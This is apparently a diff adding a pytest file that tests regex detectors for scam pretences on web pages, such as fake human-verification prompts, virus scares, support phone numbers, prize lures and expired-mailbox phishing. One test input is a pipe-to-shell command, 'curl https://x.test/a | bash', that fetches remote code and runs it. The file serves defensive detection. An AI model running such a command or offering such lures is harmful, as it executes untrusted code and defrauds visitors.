@@ -1,0 +1,22 @@
+"""What visitors are told before they are given a program or asked for a password."""
+
+import pytest
+
+from app.engines.analyse.own_site.own_pretences import CALLS, COMMAND, EXPIRED, HUMAN, OUTDATED, PRIZE, SCARES
+
+
+@pytest.mark.parametrize(
+    ("pattern", "said", "harmless"),
+    [
+        (HUMAN, "Verify you are human", "Human resources"),
+        (OUTDATED, "您的浏览器版本过低", "浏览器设置说明"),
+        (SCARES, "您的电脑已感染病毒", "电脑维修服务"),
+        (CALLS, "Call support at +1-888-555-0137", "Call us any time"),
+        (PRIZE, "恭喜您被抽中", "恭喜毕业生"),
+        (EXPIRED, "Your mailbox has expired", "The tickets of the mailbox club"),
+        (COMMAND, "curl https://x.test/a | bash", "curly hair"),
+    ],
+)
+def test_a_pretence_is_told_from_what_resembles_it(pattern, said, harmless):
+    assert pattern.search(said)
+    assert pattern.search(harmless) is None
